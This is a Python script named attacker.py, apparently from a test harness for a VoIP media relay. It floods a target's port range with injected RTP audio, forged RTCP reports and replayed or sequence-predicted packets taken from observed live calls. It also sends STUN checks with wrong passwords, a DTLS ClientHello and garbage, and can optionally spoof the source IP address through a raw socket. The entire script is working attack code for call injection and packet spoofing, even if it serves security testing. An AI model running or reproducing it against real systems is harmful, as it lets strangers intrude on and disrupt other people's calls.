#!/usr/bin/env python3
"""Wants to hear other people's calls, or to speak in them.

    attacker.py DIR NAME TARGET PORTS [AS-IP:PORT]

Ten times a second sends to each of PORTS (first-last) of TARGET what might open it: RTP and RTCP of its own, and with SSRC, sequence numbers and
timestamps of every call that runs (DIR/*.shown), the calls' own packets again, STUN requests without and with a wrong password, a DTLS
ClientHello, garbage. With AS-IP:PORT under that forged address. When told to stop (SIGTERM) it writes DIR/NAME.attack: how
much it sent, and what it was sent.
"""
import glob
import json
import os
import secrets
import select
import signal
import socket
import struct
import sys
import time

from packets import Shown, rtcp, rtp, stun_check

EVIL = b"a stranger speaks".ljust(160, b"!")
HELLO = bytes.fromhex("fefd") + secrets.token_bytes(32) + bytes.fromhex("0000 0002c02b 0100")
CLIENT_HELLO = bytes.fromhex("16feff 0000000000000000 0036 01 00002a 0000 000000 00002a") + HELLO


def ammunition(folder):
    """One round."""
    ssrc = secrets.randbits(32)
    yield rtp(1, 160, ssrc, EVIL)
    yield rtcp(ssrc, b"a stranger reports")
    username = "guess:work"
    if os.path.exists(f"{folder}/ice.username"):
        username = open(f"{folder}/ice.username").read()
    check = stun_check(secrets.token_bytes(12), username, "not the password at all")
    yield check
    yield b"\x00\x01\x00\x00" + check[4:20]
    yield CLIENT_HELLO
    yield secrets.token_bytes(100)
    yield b""
    for path in glob.glob(f"{folder}/*.shown"):
        seen = Shown(folder, os.path.basename(path)[:-6]).seen()
        if len(seen) < 12:
            continue
        sequence, timestamp, ssrc = struct.unpack(">2xHII", seen[:12])
        # The very packet, the next one before its sender has sent it, and a report in his name.
        yield seen
        yield rtp(sequence + 1, timestamp + 160, ssrc, EVIL)
        yield rtcp(ssrc, b"a stranger reports")


def forged(source, packet, to):
    """As an IPv4 datagram from `source`; the kernel fills in the checksum of IP, and UDP may do without (RFC 768)."""
    udp = struct.pack(">HHHH", source[1], to[1], 8 + len(packet), 0) + packet
    ends = socket.inet_aton(source[0]) + socket.inet_aton(to[0])
    return struct.pack(">BBHHHBBH", 0x45, 0, 20 + len(udp), 0, 0, 64, socket.IPPROTO_UDP, 0) + ends + udp


def main():
    folder, name, target, ports, *forge = sys.argv[1:]
    first, last = map(int, ports.split("-"))
    source = None
    if forge:
        ip, port = forge[0].split(":")
        source, wire = (ip, int(port)), socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    else:
        wire = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    stop = []
    signal.signal(signal.SIGTERM, lambda *_: stop.append(True))
    sent, received = 0, []
    while not stop:
        again = time.monotonic() + 0.1
        for packet in ammunition(folder):
            for port in range(first, last + 1):
                to = (target, port)
                wire.sendto(forged(source, packet, to) if source else packet, to)
                sent += 1
        while select.select([wire], [], [], max(0, again - time.monotonic()))[0]:
            packet, sender = wire.recvfrom(2048)
            received.append(f"{sender} {packet[:40]!r}")
    with open(f"{folder}/{name}.attack", "w") as file:
        json.dump({"sent": sent, "received": len(received), "such as": received[:3]}, file)


if __name__ == "__main__":
    main()
